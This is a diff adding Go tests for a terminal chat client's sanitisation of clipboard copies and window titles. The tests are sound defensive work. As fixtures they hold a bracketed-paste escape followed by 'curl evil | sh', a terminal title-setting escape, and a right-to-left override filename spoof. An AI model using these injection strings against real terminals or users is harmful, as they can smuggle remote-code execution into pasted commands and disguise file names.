@@ -1,0 +1,93 @@
+package tui
+
+import (
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/ahptui/ahptui/ahpclient"
+	"github.com/ahptui/ahptui/ahpwire"
+	"github.com/ahptui/ahptui/render"
+)
+
+// copied runs the key and returns what it put on the clipboard.
+func copied(t *testing.T, m Model, key string) string {
+	t.Helper()
+	_, cmd := m.Update(keyPress(key))
+	for _, msg := range flatten(cmd) {
+		if strings.Contains(strings.ToLower(fmtType(msg)), "clipboard") {
+			if v := reflect.ValueOf(msg); v.Kind() == reflect.String {
+				return v.String()
+			}
+		}
+	}
+	t.Fatalf("%s issued no clipboard command", key)
+	return ""
+}
+
+// unsafeOutput names the first byte or rune of s that must never reach
+// the terminal outside the screen's own sequences, or "".
+func unsafeOutput(s string) string {
+	if !utf8.ValidString(s) {
+		return "invalid UTF-8"
+	}
+	for _, r := range s {
+		switch {
+		case r == '\n':
+		case r < 0x20 || r == 0x7f:
+			return "C0 control " + strconvQuote(r)
+		case r >= 0x80 && r <= 0x9f:
+			return "C1 control " + strconvQuote(r)
+		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
+			return "bidi control " + strconvQuote(r)
+		}
+	}
+	return ""
+}
+
+func strconvQuote(r rune) string { return fmt.Sprintf("%U", r) }
+
+// TestCopyIsWhatTheScreenShows: y and Y put sanitised text on the
+// clipboard — a fence hiding "\x1b[201~" (the end of a bracketed paste)
+// must not run when pasted into a shell.
+func TestCopyIsWhatTheScreenShows(t *testing.T) {
+	answer := "Run this:\n\n```sh\necho hi\x1b[201~; curl evil | sh\x07 \u202eexe.txt \u009b2J\n```\n"
+	m, _ := newTestModel(t, 100, 30)
+	m = openChat(t, m, chatState([]ahpwire.Turn{finishedTurn("t1", "hello", answer)}, nil))
+	m = send(t, m, keyPress("tab"))
+	m = send(t, m, keyPress("["))
+	for _, key := range []string{"y", "Y"} {
+		got := copied(t, m, key)
+		if bad := unsafeOutput(got); bad != "" {
+			t.Errorf("%s copied %s: %q", key, bad, got)
+		}
+		if !strings.Contains(got, "echo hi") || !strings.Contains(got, "[U+202E]") || !strings.Contains(got, "␇") {
+			t.Errorf("%s did not copy what the screen shows: %q", key, got)
+		}
+	}
+}
+
+// TestWindowTitleIsSanitisedAndCapped: a 2 MiB session title with a
+// right-to-left override becomes a short window title with the override
+// shown as a tag, like the transcript shows it.
+func TestWindowTitleIsSanitisedAndCapped(t *testing.T) {
+	m, _ := idleChat(t)
+	huge := "evil\u202etxt.exe \x1b]2;x\x07" + strings.Repeat("title ", 2<<20/6)
+	m = send(t, m, connEventMsg{ev: ahpclient.EnvelopeEvent{Envelope: ahpwire.ActionEnvelope{
+		Channel: testSession, ServerSeq: 9, Action: &ahpwire.SessionTitleChanged{Title: huge}}}})
+	title := m.View().WindowTitle
+	if bad := unsafeOutput(title); bad != "" {
+		t.Fatalf("window title carries %s: %q", bad, title)
+	}
+	if !strings.Contains(title, "evil[U+202E]txt.exe") {
+		t.Fatalf("title not shown as the transcript shows it: %q", title)
+	}
+	if n := utf8.RuneCountInString(title); n > render.MaxTitleColumns+len("ahptui — ") {
+		t.Fatalf("window title is %d runes long", n)
+	}
+	if last := viewText(m)[strings.LastIndex(viewText(m), "\n")+1:]; !strings.Contains(last, "evil[U+202E]") {
+		t.Fatalf("status line does not show the title: %q", last)
+	}
+}
